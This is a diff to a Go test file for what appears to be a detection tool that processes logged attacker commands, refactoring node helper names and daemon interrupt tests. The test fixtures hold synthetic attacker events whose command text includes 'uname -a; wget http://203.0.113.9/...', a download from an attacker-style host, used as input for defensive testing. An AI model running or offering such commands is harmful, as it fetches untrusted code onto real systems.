@@ -4,7 +4,6 @@ import (
 	"bytes"
 	"errors"
 	"fmt"
-	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -13,6 +12,9 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+
+	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/daemon"
+	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/nodetest"
 )
 
 // rarely is a configuration whose jobs do not run while a test does.
@@ -29,28 +31,28 @@ schedule = "0 0 29 2 *"
 
 // run runs a command beside the daemon of a node, or without one.
 func (n *node) run(stdin string, args ...string) (code int, stdout, stderr string) {
-	n.t.Helper()
+	n.T.Helper()
 	self, err := os.Executable()
 	if err != nil {
-		n.t.Fatal(err)
+		n.T.Fatal(err)
 	}
-	program := n.path("ttpcron")
+	program := n.Path("ttpcron")
 	if err := os.Symlink(self, program); err != nil && !errors.Is(err, os.ErrExist) {
-		n.t.Fatal(err)
+		n.T.Fatal(err)
 	}
 	cmd := exec.Command(program, args...)
 	var out, errs bytes.Buffer
-	cmd.Dir, cmd.Env, cmd.Stdin, cmd.Stdout, cmd.Stderr = n.dir, n.env, strings.NewReader(stdin), &out, &errs
+	cmd.Dir, cmd.Env, cmd.Stdin, cmd.Stdout, cmd.Stderr = n.Dir, n.Env, strings.NewReader(stdin), &out, &errs
 	var exit *exec.ExitError
 	if err := cmd.Run(); err != nil && !errors.As(err, &exit) {
-		n.t.Fatal(err)
+		n.T.Fatal(err)
 	}
 	return cmd.ProcessState.ExitCode(), out.String(), errs.String()
 }
 
 // serving starts the daemon and waits until it answers.
 func (n *node) serving() {
-	n.t.Helper()
+	n.T.Helper()
 	n.start()
 	n.told(`\AREADY=1`)
 }
@@ -177,7 +179,7 @@ var remoteNoise = []struct {
 
 // comparable leaves out what differs from one moment to the next.
 func comparable(n *node, text string, loose bool) string {
-	text = strings.ReplaceAll(text, n.dir, "DIR")
+	text = strings.ReplaceAll(text, n.Dir, "DIR")
 	for _, noise := range remoteNoise {
 		text = noise.re.ReplaceAllString(text, noise.as)
 	}
@@ -192,14 +194,14 @@ func comparable(n *node, text string, loose bool) string {
 func TestSameWithDaemon(t *testing.T) {
 	plain, served := newNode(t, rarely), newNode(t, rarely)
 	for _, n := range []*node{plain, served} {
-		n.write("events.jsonl", remoteEvents)
-		n.write("more.jsonl", strings.ReplaceAll(remoteEvents, `"source_id":"`, `"source_id":"m`))
-		n.write("labelled.tsv", "T1082\tuname -a\n")
-		if err := os.MkdirAll(n.path("own"), 0o700); err != nil {
+		n.Write("events.jsonl", remoteEvents)
+		n.Write("more.jsonl", strings.ReplaceAll(remoteEvents, `"source_id":"`, `"source_id":"m`))
+		n.Write("labelled.tsv", "T1082\tuname -a\n")
+		if err := os.MkdirAll(n.Path("own"), 0o700); err != nil {
 			t.Fatal(err)
 		}
-		n.write("own/own.yaml", ownRule)
-		n.env = append(n.env, "TTPCRON_INPUT=", "LANG=C.UTF-8", "USER=tester", "LOGNAME=tester")
+		n.Write("own/own.yaml", ownRule)
+		n.Env = append(n.Env, "TTPCRON_INPUT=", "LANG=C.UTF-8", "USER=tester", "LOGNAME=tester")
 	}
 	served.serving()
 	tried := map[string]bool{}
@@ -220,13 +222,11 @@ func TestSameWithDaemon(t *testing.T) {
 			t.Errorf("%s: on stderr with a daemon\n%s\nwithout\n%s", step.args, got, want)
 		}
 	}
-	a := newApp(strings.NewReader(""), io.Discard, io.Discard, nil)
-	a.rootCommand()
-	for _, c := range a.byFlags {
-		if c.run != nil && !tried[c.name] && !slices.Contains(aloneCommands, c.name) {
-			t.Errorf("%s is not compared", c.name)
+	rootCommand().Each(func(c *command) {
+		if c.Run != nil && !tried[c.Name] && !slices.Contains(aloneCommands, c.Name) {
+			t.Errorf("%s is not compared", c.Name)
 		}
-	}
+	})
 	// Those that need the file say what to do.
 	for _, args := range [][]string{{"db", "check"}, {"db", "compact"}, {"db", "restore", "b.db"}, {"db", "recover", "r.db"}, {"daemon"}} {
 		code, _, errs := served.run("", args...)
@@ -237,13 +237,13 @@ func TestSameWithDaemon(t *testing.T) {
 	if code := served.stop(); code != exitDone {
 		t.Errorf("the daemon exits with %d", code)
 	}
-	if _, err := os.Lstat(served.path("t.db.sock")); !errors.Is(err, os.ErrNotExist) {
+	if _, err := os.Lstat(served.Path("t.db.sock")); !errors.Is(err, os.ErrNotExist) {
 		t.Errorf("the socket is left behind: %v", err)
 	}
 	if code, _, errs := served.run("", "db", "check"); code != exitDone {
 		t.Errorf("afterwards: %s", errs)
 	}
-	if left, _ := filepath.Glob(served.path(".*")); len(left) > 0 {
+	if left, _ := filepath.Glob(served.Path(".*")); len(left) > 0 {
 		t.Errorf("left behind: %v", left)
 	}
 }
@@ -259,22 +259,22 @@ func busyEvents() int {
 // A run of a caller waits for its turn. An interrupt cancels it, or leaves it
 // alone, as asked.
 func TestRunInDaemonIsInterrupted(t *testing.T) {
-	for _, how := range []string{interruptCancel, interruptDetach} {
+	for _, how := range []string{daemon.InterruptCancel, daemon.InterruptDetach} {
 		t.Run(how, func(t *testing.T) {
 			n := newNode(t, rarely)
-			n.env = append(n.env, "TTPCRON_INPUT=")
+			n.Env = append(n.Env, "TTPCRON_INPUT=")
 			n.serving()
 			var events strings.Builder
 			for i := range busyEvents() {
 				fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; wget http://203.0.113.9/%d"}}`+"\n", i)
 			}
-			n.write("many.jsonl", events.String())
+			n.Write("many.jsonl", events.String())
 			if code, _, errs := n.run("", "import", "many.jsonl"); code != 0 {
 				t.Fatal(errs)
 			}
-			var stderr lockedBuffer
-			cmd := exec.Command(n.path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1", "--on-interrupt", how)
-			cmd.Dir, cmd.Env, cmd.Stderr = n.dir, n.env, &stderr
+			var stderr nodetest.Buffer
+			cmd := exec.Command(n.Path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1", "--on-interrupt", how)
+			cmd.Dir, cmd.Env, cmd.Stderr = n.Dir, n.Env, &stderr
 			if err := cmd.Start(); err != nil {
 				t.Fatal(err)
 			}
@@ -286,10 +286,10 @@ func TestRunInDaemonIsInterrupted(t *testing.T) {
 			if code := cmd.ProcessState.ExitCode(); code != exitInterrupted {
 				t.Fatalf("exit %d: %s", code, stderr.String())
 			}
-			if detached := strings.Contains(stderr.String(), "goes on in the daemon"); detached != (how == interruptDetach) {
+			if detached := strings.Contains(stderr.String(), "goes on in the daemon"); detached != (how == daemon.InterruptDetach) {
 				t.Errorf("stderr: %s", stderr.String())
 			}
-			outcome := map[string]string{interruptCancel: `"outcome":"interrupted"`, interruptDetach: `"outcome":"done"`}[how]
+			outcome := map[string]string{daemon.InterruptCancel: `"outcome":"interrupted"`, daemon.InterruptDetach: `"outcome":"done"`}[how]
 			n.wait("outcome "+outcome, func() bool {
 				_, out, _ := n.run("", "status", "--json")
 				return strings.Contains(out, outcome)
@@ -307,20 +307,20 @@ func TestRunInDaemonIsInterrupted(t *testing.T) {
 // with these rules; a run that waits behind it comes next.
 func TestRunWithOtherRules(t *testing.T) {
 	n := newNode(t, rarely)
-	n.env = append(n.env, "TTPCRON_INPUT=")
-	n.write("events.jsonl", remoteEvents)
+	n.Env = append(n.Env, "TTPCRON_INPUT=")
+	n.Write("events.jsonl", remoteEvents)
 	n.serving()
 	if code, _, errs := n.run("", "run-once", "--input", "events.jsonl", "--since-days", "3650"); code != exitDone {
 		t.Fatal(errs)
 	}
-	if err := os.MkdirAll(n.path("own"), 0o700); err != nil {
+	if err := os.MkdirAll(n.Path("own"), 0o700); err != nil {
 		t.Fatal(err)
 	}
-	rule, err := os.ReadFile(n.path("rules/discovery.yaml"))
+	rule, err := os.ReadFile(n.Path("rules/discovery.yaml"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	n.write("own/own.yaml", strings.NewReplacer("TEST2", "OWN1", "T1082", "T1033").Replace(string(rule)))
+	n.Write("own/own.yaml", strings.NewReplacer("TEST2", "OWN1", "T1082", "T1033").Replace(string(rule)))
 	code, out, errs := n.run("", "run-once", "--rules", "own", "--json")
 	if code != exitDone || !strings.Contains(errs, "the daemon has other rules") || !strings.Contains(out, `"OWN1"`) {
 		t.Errorf("exit %d: %s%s", code, out, errs)
@@ -336,10 +336,10 @@ func TestRunWithOtherRules(t *testing.T) {
 	for i := range busyEvents() {
 		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
 	}
-	n.write("many.jsonl", events.String())
+	n.Write("many.jsonl", events.String())
 	n.run("", "import", "many.jsonl")
-	cmd := exec.Command(n.path("ttpcron"), "run-once", "--rules", "own", "--batch-size", "1", "--workers", "1")
-	cmd.Dir, cmd.Env = n.dir, n.env
+	cmd := exec.Command(n.Path("ttpcron"), "run-once", "--rules", "own", "--batch-size", "1", "--workers", "1")
+	cmd.Dir, cmd.Env = n.Dir, n.Env
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
@@ -364,16 +364,16 @@ func TestRunWithOtherRules(t *testing.T) {
 // Changes that no run must meet wait for it, as long as for a store that is held.
 func TestCheckpointWaitsForRun(t *testing.T) {
 	n := newNode(t, rarely)
-	n.env = append(n.env, "TTPCRON_INPUT=")
+	n.Env = append(n.Env, "TTPCRON_INPUT=")
 	n.serving()
 	var events strings.Builder
 	for i := range busyEvents() {
 		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
 	}
-	n.write("many.jsonl", events.String())
+	n.Write("many.jsonl", events.String())
 	n.run("", "import", "many.jsonl")
-	cmd := exec.Command(n.path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1")
-	cmd.Dir, cmd.Env = n.dir, n.env
+	cmd := exec.Command(n.Path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1")
+	cmd.Dir, cmd.Env = n.Dir, n.Env
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
@@ -393,17 +393,17 @@ func TestCheckpointWaitsForRun(t *testing.T) {
 // A daemon that stops says so to whoever waits for a run.
 func TestDaemonStopsDuringRun(t *testing.T) {
 	n := newNode(t, rarely)
-	n.env = append(n.env, "TTPCRON_INPUT=")
+	n.Env = append(n.Env, "TTPCRON_INPUT=")
 	n.serving()
 	var events strings.Builder
 	for i := range busyEvents() {
 		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
 	}
-	n.write("many.jsonl", events.String())
+	n.Write("many.jsonl", events.String())
 	n.run("", "import", "many.jsonl")
-	var stderr lockedBuffer
-	cmd := exec.Command(n.path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1")
-	cmd.Dir, cmd.Env, cmd.Stderr = n.dir, n.env, &stderr
+	var stderr nodetest.Buffer
+	cmd := exec.Command(n.Path("ttpcron"), "run-once", "--since-days", "3650", "--batch-size", "1", "--workers", "1")
+	cmd.Dir, cmd.Env, cmd.Stderr = n.Dir, n.Env, &stderr
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
